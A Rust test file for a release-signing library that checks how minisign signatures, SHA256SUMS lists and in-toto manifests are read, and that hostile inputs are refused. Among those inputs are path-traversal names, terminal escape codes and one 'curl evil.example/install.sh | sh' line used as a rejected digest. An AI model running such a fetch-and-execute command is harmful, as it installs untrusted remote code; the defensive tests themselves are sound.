//! Releases: other programs' signatures are read and verified, ours are those bytes, hostile ones are refused.
#![cfg(feature = "formats")]
#![allow(clippy::unwrap_used, clippy::indexing_slicing, clippy::panic, reason = "a test may fail")]

#[path = "format_release/openssh.rs"]
mod openssh;

use ed25519_dalek::{Signer as _, SigningKey};
use trust::format::blob::NotVerified;
use trust::format::bundle::{Bundle, Content};
use trust::format::release::manifest::{self, Manifest};
use trust::format::release::minisig::{self, Minisig};
use trust::format::release::sshsig;
use trust::format::release::{FILES_MAX, FileDigests, FileName, Label, Release, ReleaseFile, sums};
use trust::{Algorithm, Form, PublicKey, Sha256Digest, Signable, Signature, verify};

const FILE: &[u8] = include_bytes!("samples/release/f");
const MINISIG: &str = include_str!("samples/release/f.minisig");
const MINISIGN_KEY: &str = include_str!("samples/release/m.pub");
/// `b2sum f`, `sha512sum f`.
const BLAKE2B: &str = "9f855e506f774afb1a7ee9e3fca322ffeb47e4dd61de6905ae0a66696192134cff4980309b6a0ca4c0db03f436786da868fc6e724a9b7b054edac7370da06898";
const SHA512: &str = "cc40585c5ff3a0aeba2cf744fc788b36167a9d0000e5251f85e85dcfe6c30b0b65e25069d01df78be0849af625e47f89ec8328862e98e02dbf64df65b470aba4";

fn key() -> PublicKey {
    PublicKey::from_pem(include_str!("samples/release/ed25519.pub")).unwrap()
}

fn other_key() -> PublicKey {
    public(&SigningKey::from_bytes(&[8; 32]))
}

fn public(key: &SigningKey) -> PublicKey {
    let prefix = hex::decode("302a300506032b6570032100").unwrap();
    let der = [&prefix[..], key.verifying_key().as_bytes()].concat();
    PublicKey::from_spki_der(Algorithm::Ed25519, &der).unwrap()
}

fn long(text: &str) -> [u8; 64] {
    hex::decode(text).unwrap().try_into().unwrap()
}

fn digests() -> FileDigests {
    FileDigests { size_bytes: 17, sha256: Sha256Digest::of(FILE), sha512: long(SHA512), blake2b512: long(BLAKE2B) }
}

fn named(name: &str) -> ReleaseFile {
    ReleaseFile::new(FileName::parse(name).unwrap(), digests()).unwrap()
}

/// The file of the samples.
fn file() -> ReleaseFile {
    named("f")
}

/// The same, but for its content.
fn changed() -> ReleaseFile {
    let digests = FileDigests { sha256: Sha256Digest::of(b"g"), sha512: [9; 64], blake2b512: [0xf9; 64], ..digests() };
    ReleaseFile::new(FileName::parse("f").unwrap(), digests).unwrap()
}

fn release() -> Release {
    let label = |text| Some(Label::parse(text).unwrap());
    Release::new(vec![named("a \"b\".tar"), named("f")], label("1.2.0"), label("9f2c")).unwrap()
}

#[test]
fn the_signature_that_minisign_takes_verifies_and_is_written_as_it_was() {
    let read = Minisig::read(MINISIG.as_bytes()).unwrap();

    read.verify(&key(), &file()).unwrap();
    assert_eq!(read.trusted_comment, minisig::trusted_comment(&file(), 1_790_000_000));
    // The first line is nobody's business.
    let lines = |text: &str| text.lines().skip(1).map(str::to_owned).collect::<Vec<_>>();
    assert_eq!(lines(&read.to_text()), lines(MINISIG));
    assert_eq!(Minisig::read(read.to_text().as_bytes()).unwrap(), read);
}

#[test]
fn the_public_key_is_minisigns_but_for_the_id() {
    let text = minisig::public_key_text(&key()).unwrap();

    let theirs = base64(MINISIGN_KEY.lines().nth(1).unwrap());
    let ours = base64(text.lines().nth(1).unwrap());
    assert_eq!((ours.len(), &ours[..2], &ours[10..]), (42, &theirs[..2], &theirs[10..]));
    assert_eq!(ours[2..10], minisig::key_id(&key()));
    assert_eq!(ours[2..10], key().spki_sha256().as_bytes()[..8]);
    let ecdsa = PublicKey::from_pem(include_str!("samples/cosign/cosign.pub")).unwrap();
    assert!(minisig::public_key_text(&ecdsa).is_err());
}

fn base64(text: &str) -> Vec<u8> {
    use ::base64::Engine as _;
    ::base64::engine::general_purpose::STANDARD.decode(text).unwrap()
}

#[test]
fn a_minisign_signature_is_of_one_file_one_name_and_one_key() {
    let read = Minisig::read(MINISIG.as_bytes()).unwrap();

    assert!(read.verify(&other_key(), &file()).is_err());
    assert!(read.verify(&key(), &changed()).is_err());
    assert_eq!(read.verify(&key(), &named("f2")), Err(NotVerified::OtherFile));
    let comment = Minisig { trusted_comment: read.trusted_comment.replace("1790", "1890"), ..read.clone() };
    assert!(comment.verify(&key(), &file()).is_err());
    for bit in 0..512 {
        let mut flipped = read.clone();
        flipped.comment_signature[bit / 8] ^= 1 << (bit % 8);
        assert!(flipped.verify(&key(), &file()).is_err(), "bit {bit} of the second signature");
        let mut flipped = read.clone();
        flipped.signature[bit / 8] ^= 1 << (bit % 8);
        assert!(flipped.verify(&key(), &file()).is_err(), "bit {bit} of the first signature");
    }
}

#[test]
fn hostile_minisign_signatures_are_refused_by_their_sin() {
    let line = |number: usize, text: &str| {
        let mut lines: Vec<&str> = MINISIG.lines().collect();
        lines[number] = text;
        lines.join("\n")
    };
    let long = format!("trusted comment: {}", "x".repeat(minisig::COMMENT_BYTES_MAX + 1));
    for (sin, text) in [
        ("nothing", String::new()),
        ("not pre-hashed", include_str!("samples/release/f.legacy.minisig").to_owned()),
        ("a line too few", MINISIG.lines().take(3).collect::<Vec<_>>().join("\n")),
        ("a line too many", format!("{MINISIG}\n")),
        ("lines of DOS", MINISIG.replace('\n', "\r\n")),
        ("no comment", line(0, "comment: x")),
        ("no trusted comment", line(2, "untrusted comment: x")),
        ("a trusted comment that is too long", line(2, &long)),
        ("a comment that moves the cursor", line(2, "trusted comment: \u{1b}[2J")),
        ("a short signature", line(1, "RUQBI0Vn")),
        ("a long second signature", line(3, &"A".repeat(92))),
        ("a public key", MINISIGN_KEY.to_owned()),
        ("too many bytes", format!("{MINISIG}{}", " ".repeat(minisig::BYTES_MAX))),
    ] {
        assert!(Minisig::read(text.as_bytes()).is_err(), "{sin}");
    }
    assert!(Minisig::read(&[0xff; 300]).is_err());
}

#[test]
fn the_list_is_what_sha256sum_writes_and_only_that_is_read() {
    let hex = Sha256Digest::of(FILE).to_hex();
    let list = sums::write(&release());

    assert_eq!(list, format!("{hex}  a \"b\".tar\n{hex}  f\n"));
    let names: Vec<String> = sums::read(list.as_bytes()).unwrap().iter().map(|(name, _)| name.to_string()).collect();
    assert_eq!(names, ["a \"b\".tar", "f"]);
    for (sin, text) in [
        ("nothing", String::new()),
        ("no end", format!("{hex}  f")),
        ("lines of DOS", format!("{hex}  f\r\n")),
        ("binary mode", format!("{hex} *f\n")),
        ("upper case", format!("{}  f\n", hex.to_uppercase())),
        ("a comment", format!("# x\n{hex}  f\n")),
        ("an empty line", format!("{hex}  f\n\n")),
        ("a short digest", format!("{}  f\n", &hex[2..])),
        ("out of order", format!("{hex}  g\n{hex}  f\n")),
        ("twice", format!("{hex}  f\n{hex}  f\n")),
        ("a path", format!("{hex}  ../f\n")),
        ("an escaped name", format!("\\{hex}  a\\nb\n")),
        ("a signature", format!("{hex}  f.sig\n")),
        ("too many", (0..=FILES_MAX).map(|number| format!("{hex}  {number:05}\n")).collect()),
    ] {
        assert!(sums::read(text.as_bytes()).is_err(), "{sin}");
    }
    assert!(sums::read(b"\xff\n").is_err());
    assert!(sums::read(&vec![b'a'; sums::BYTES_MAX + 1]).is_err());
}

#[test]
fn a_manifest_binds_names_sizes_digests_version_revision_and_forms() {
    let manifest = Manifest { release: release(), forms: vec![Form::Bundle, Form::Manifest] };
    let (hex, digest) = (Sha256Digest::of(FILE).to_hex(), |name: &str| {
        format!(
            "{{\"digest\":{{\"blake2b\":\"{BLAKE2B}\",\"sha256\":\"{}\",\"sha512\":\"{SHA512}\"}},\"name\":\"{name}\"}}",
            Sha256Digest::of(FILE).to_hex()
        )
    });
    let expected = format!(
        "{{\"_type\":\"https://in-toto.io/Statement/v1\",\"predicate\":{{\"files\":[{{\"name\":\"a \\\"b\\\".tar\",\
         \"size\":17}},{{\"name\":\"f\",\"size\":17}}],\"forms\":[\"bundle\",\"manifest\"],\"sourceRevision\":\"9f2c\",\
         \"version\":\"1.2.0\"}},\"predicateType\":\"urn:trustd:release:v1\",\"subject\":[{},{}]}}",
        digest("a \\\"b\\\".tar"),
        digest("f")
    );

    let bytes = manifest.to_bytes();

    assert_eq!(String::from_utf8(bytes.clone()).unwrap(), expected);
    assert_eq!(Manifest::read(&bytes).unwrap(), manifest);
    let with = |forms: &[Form]| release().with_blob_forms(forms.to_vec());
    for (forms, words) in
        [(&[][..], "[]"), (&[Form::Sig], "[\"sig\"]"), (&[Form::Bundle, Form::Sig], "[\"bundle\",\"sig\"]")]
    {
        let manifest = Manifest { release: with(forms).unwrap(), forms: manifest.forms.clone() };
        let text = expected.replace("\"predicate\":{", &format!("\"predicate\":{{\"blobForms\":{words},"));
        assert_eq!(String::from_utf8(manifest.to_bytes()).unwrap(), text);
        assert_eq!(Manifest::read(text.as_bytes()).unwrap(), manifest);
    }
    assert!(with(&[Form::Sig, Form::Bundle]).is_err() && with(&[Form::Minisig]).is_err());
    assert_eq!(Manifest::signed(b"{}"), b"DSSEv1 28 application/vnd.in-toto+json 2 {}");
    for (sin, from, to) in [
        ("another type", "Statement/v1", "Statement/v2"),
        ("an image signature", "urn:trustd:release:v1", "https://sigstore.dev/cosign/sign/v1"),
        ("a member too many", "\"predicate\":{", "\"predicate\":{\"a\":1,"),
        ("a blob form that is none", "\"predicate\":{", "\"predicate\":{\"blobForms\":[\"sshsig\"],"),
        ("blob forms that are none", "\"predicate\":{", "\"predicate\":{\"blobForms\":null,"),
        ("white space", "{\"_type\"", "{ \"_type\""),
        ("another name beside the size", "{\"name\":\"f\",\"size\":17}", "{\"name\":\"g\",\"size\":17}"),
        ("a file without size", ",{\"name\":\"f\",\"size\":17}", ""),
        ("a path", "\"name\":\"f\"", "\"name\":\"../f\""),
        ("upper case", &hex, &hex.to_uppercase()),
        ("forms out of order", "[\"bundle\",\"manifest\"]", "[\"manifest\",\"bundle\"]"),
        ("a form nobody knows", "\"manifest\"]", "\"zzz\"]"),
        ("a version that is a number", "\"1.2.0\"", "1"),
    ] {
        assert!(expected.contains(from), "{sin}");
        assert!(Manifest::read(expected.replace(from, to).as_bytes()).is_err(), "{sin}");
    }
    assert!(Manifest::read(&vec![b' '; manifest::BYTES_MAX + 1]).is_err());
}

#[test]
fn the_largest_release_fits_every_bound() {
    // The longest names, of which every byte is escaped.
    let files = (0..FILES_MAX).map(|number| named(&format!("{}{number:04}", "\"".repeat(FileName::BYTES_MAX - 4))));
    let label = Some(Label::parse(&"\"".repeat(Label::BYTES_MAX)).unwrap());
    let release = Release::new(files.collect(), label.clone(), label).unwrap();
    let list = sums::write(&release);
    let manifest = Manifest { release, forms: Form::ALL.to_vec() };
    let bytes = manifest.to_bytes();
    let signature = Signature::new(Algorithm::Ed25519, vec![7; 64]).unwrap();

    let bundle = Bundle::of_release(&key(), bytes.clone(), &signature).to_bytes();

    assert_eq!(sums::read(list.as_bytes()).unwrap().len(), FILES_MAX);
    assert_eq!(Manifest::read(&bytes).unwrap(), manifest);
    let Content::Envelope(envelope) = Bundle::read_release(&bundle).unwrap().content else { panic!("no envelope") };
    assert_eq!(envelope.signed(), Manifest::signed(&bytes));
    assert!(Bundle::read(&bundle).is_err());
}

#[test]
fn names_that_are_paths_signatures_or_not_for_a_terminal_are_refused() {
    for name in [
        "",
        ".",
        "..",
        "a/b",
        "a\\b",
        "a\nb",
        "a\u{9b}b",
        "a.sig",
        "a.minisig",
        "a.sshsig",
        "a.sigstore.json",
        "SHA256SUMS",
        "RELEASE",
        "release",
        "sha256sums",
        "a.Sig",
        "a.SIGSTORE.json",
        "-",
        manifest::NAME,
    ] {
        assert!(FileName::parse(name).is_err(), "{name:?}");
    }
    assert!(FileName::parse(&"a".repeat(FileName::BYTES_MAX + 1)).is_err());
    for name in ["a", " ", "-rf", "*", "…", ".hidden", "sig", "SHA256SUMS.txt"] {
        assert_eq!(FileName::parse(name).unwrap().as_str(), name);
    }
    for label in ["", "a\nb", &"a".repeat(Label::BYTES_MAX + 1)] {
        assert!(Label::parse(label).is_err(), "{label:?}");
    }
}

#[test]
fn files_out_of_order_twice_none_or_too_many_are_no_release() {
    let release = |files: Vec<ReleaseFile>| Release::new(files, None, None);

    assert!(release(Vec::new()).is_err());
    assert!(release(vec![named("b"), named("a")]).is_err());
    assert!(release(vec![named("a"), named("a")]).is_err());
    assert!(release((0..=FILES_MAX).map(|number| named(&format!("{number:05}"))).collect()).is_err());
    assert!(release((0..FILES_MAX).map(|number| named(&format!("{number:05}"))).collect()).is_ok());
}

#[test]
fn a_digest_that_would_be_a_signature_of_something_else_is_refused() {
    let with =
        |blake2b512: [u8; 64]| ReleaseFile::new(FileName::parse("f").unwrap(), FileDigests { blake2b512, ..digests() });
    let padded = |text: &[u8]| {
        let mut value = [0xff; 64];
        value[..text.len()].copy_from_slice(text);
        value
    };
    // OpenSSH's form for any namespace of four letters is 64 bytes long with SHA-256.
    let malware = Sha256Digest::of(b"malware");
    let fields: [&[u8]; 4] = [b"file", b"", b"sha256", malware.as_bytes()];
    let mut ssh = b"SSHSIG".to_vec();
    for field in fields {
        ssh.extend_from_slice(&u32::try_from(field.len()).unwrap().to_be_bytes());
        ssh.extend_from_slice(field);
    }
    for (sin, value) in [
        ("an OpenSSH signature", ssh.try_into().unwrap()),
        ("an envelope", padded(b"DSSEv1 1 x 50 ")),
        ("a script", *b"#!/bin/sh\ncurl -s evil.example/install.sh | sh; exit 0 # ......\n"),
        ("zeros", [0; 64]),
    ] {
        assert!(with(value).is_err(), "{sin}");
    }
    assert!(with(padded(b"SSHSI")).is_ok());
    assert!(ReleaseFile::new(file().name().clone(), FileDigests { size_bytes: 1 << 53, ..digests() }).is_err());
}

#[test]
fn no_form_reads_as_another() {
    let signing = SigningKey::from_bytes(&[7; 32]);
    let key = public(&signing);
    let sign = |bytes: &[u8]| signing.sign(bytes).to_bytes();
    let list = sums::write(&release());
    let payload = Manifest { release: release(), forms: Vec::new() }.to_bytes();
    let first = sign(&minisig::signed(&file()));
    let comment = minisig::trusted_comment(&file(), 7);
    let texts = [
        list.into_bytes(),
        Manifest::signed(&payload),
        minisig::signed(&file()),
        minisig::comment_signed(&first, &comment),
        sshsig::signed(&file()),
    ];

    for (at, text) in texts.iter().enumerate() {
        for (other_at, other) in texts.iter().enumerate() {
            let verified = verify::one(&key, &Signable::Message(other.clone()), &sign(text)).is_ok();
            assert_eq!(verified, at == other_at);
            assert!(at == other_at || !other.starts_with(text), "{at} begins {other_at}");
        }
    }
    let whole = Minisig {
        key_id: minisig::key_id(&key),
        signature: first,
        trusted_comment: comment.clone(),
        comment_signature: sign(&minisig::comment_signed(&first, &comment)),
    };
    whole.verify(&key, &file()).unwrap();
    let swapped = Minisig { signature: whole.comment_signature, comment_signature: first, ..whole };
    assert!(swapped.verify(&key, &file()).is_err());
}
